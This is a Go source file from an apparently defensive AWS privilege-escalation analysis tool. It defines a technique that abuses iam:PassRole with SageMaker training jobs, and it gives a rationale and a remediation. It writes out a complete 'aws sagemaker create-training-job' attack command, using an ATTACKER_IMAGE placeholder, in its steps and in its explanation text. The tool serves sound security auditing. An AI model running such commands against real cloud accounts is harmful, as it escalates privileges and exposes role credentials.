package technique

import (
	"fmt"

	"github.com/pathfinder-sec/pathfinder/ingest"
)

// PassRoleSageMakerTraining: run a training job, in a container the
// attacker chooses, with a privileged role.
var PassRoleSageMakerTraining = &Technique{
	ID:     "iam:PassRole+sagemaker:CreateTrainingJob",
	Title:  "Run a SageMaker training job with a privileged role",
	Attack: "T1078.004",
	Why: "A SageMaker training job runs the caller's container image with the passed role's " +
		"credentials available to it, so the container can act as the role or send its credentials " +
		"out. iam:PassRole for sagemaker.amazonaws.com and the role's trust are the only checks.",
	Remediation: "Scope iam:PassRole to the SageMaker roles a principal must use, with an " +
		"iam:PassedToService condition, and restrict training jobs to approved images and VPCs.",
	Cost:        costNewCompute,
	Permissions: []string{"iam:PassRole", "sagemaker:CreateTrainingJob"},
	Yields:      "code execution as the role",
	Steps: []string{
		"aws sagemaker create-training-job --training-job-name escalate --role-arn ROLE_ARN --algorithm-specification TrainingImage=ATTACKER_IMAGE,TrainingInputMode=File --output-data-config S3OutputPath=s3://BUCKET/ --resource-config InstanceType=ml.m5.large,InstanceCount=1,VolumeSizeInGB=10 --stopping-condition MaxRuntimeInSeconds=3600",
	},
	Catalogue:  []string{"pathfinding.cloud sagemaker-002", "iam-vulnerable privesc-sageMakerCreateTrainingJobPassRole"},
	References: []string{pathfinding("sagemaker-002"), refPassRole},
	Derive: func(env *Env, t *Technique) error {
		return derivePassRole(env, t, passRoleSpec{
			service:  "sagemaker.amazonaws.com",
			requests: []serviceRequest{{action: "sagemaker:CreateTrainingJob", pattern: "arn:aws:sagemaker:*:%s:training-job/*"}},
			explain: func(p string, r *ingest.Role) string {
				return fmt.Sprintf("%s runs a SageMaker training job of its own image as %s: aws sagemaker create-training-job "+
					"--training-job-name escalate --role-arn %s --algorithm-specification TrainingImage=IMAGE ....", p, r.Name, r.ARN)
			},
			presumes: []string{"a container image the attacker controls that SageMaker can pull"},
		})
	},
}
